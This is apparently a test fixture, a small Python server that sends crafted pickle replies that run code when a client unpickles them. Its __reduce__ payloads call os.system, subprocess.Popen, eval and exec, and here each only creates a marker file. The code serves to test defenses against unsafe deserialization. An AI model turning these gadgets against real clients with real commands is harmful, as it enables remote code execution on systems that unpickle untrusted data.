"""A Cookbook-style pickle server (connection.send(pickle.dumps(r))) whose replies would run code in
a Python client that unpickles them: each creates DIR/marker-KIND when loaded by pickle.loads.

Usage: fault_pickle_bomb.py DIR            serve payload(kind) on 127.0.0.1, print `PORT <n>`
       fault_pickle_bomb.py DIR --dump KIND print the reply pickle as hex (to prove it is live)
Kinds: system (os.system via REDUCE), popen (subprocess.Popen), eval, exec (builtins), reduce_ex
(__reduce_ex__ instead of __reduce__), nested (os.system of a str built by an inner REDUCE, inside
a dict inside a list).
"""
import builtins
import os
import pickle
import subprocess
import sys
from multiprocessing.connection import Listener
from threading import Thread

DIR = sys.argv[1]


def marker(kind):
    return os.path.join(DIR, 'marker-' + kind)


class System(object):
    def __reduce__(self):
        return (os.system, ('touch ' + marker('system'),))


class Popen(object):
    def __reduce__(self):
        return (subprocess.Popen, (['touch', marker('popen')],))


class Eval(object):
    def __reduce__(self):
        return (builtins.eval, ("open(%r, 'w').close()" % marker('eval'),))


class Exec(object):
    def __reduce__(self):
        return (builtins.exec, ("open(%r, 'w').close()" % marker('exec'),))


class ReduceEx(object):
    def __reduce_ex__(self, protocol):
        return (os.system, ('touch ' + marker('reduce_ex'),))


class Command(object):
    def __reduce__(self):
        return (builtins.str, ('touch ' + marker('nested'),))


class Nested(object):
    def __reduce__(self):
        return (os.system, (Command(),))


PAYLOADS = {
    'system': System, 'popen': Popen, 'eval': Eval, 'exec': Exec, 'reduce_ex': ReduceEx,
    'nested': lambda: [{'deep': Nested()}],
}


def payload(kind):
    return PAYLOADS[kind]()


def handle(connection):
    try:
        while True:
            func_name, args, kwargs = pickle.loads(connection.recv())
            try:
                r = {'payload': payload}[func_name](*args, **kwargs)
                connection.send(pickle.dumps(r))
            except Exception as e:
                connection.send(pickle.dumps(e))
    except EOFError:
        pass


if __name__ == '__main__':
    if '--dump' in sys.argv:
        print(pickle.dumps(payload(sys.argv[sys.argv.index('--dump') + 1])).hex())
        sys.exit(0)
    listener = Listener(('127.0.0.1', 0))
    print('PORT %d' % listener.address[1], flush=True)
    while True:
        Thread(target=handle, args=(listener.accept(),), daemon=True).start()
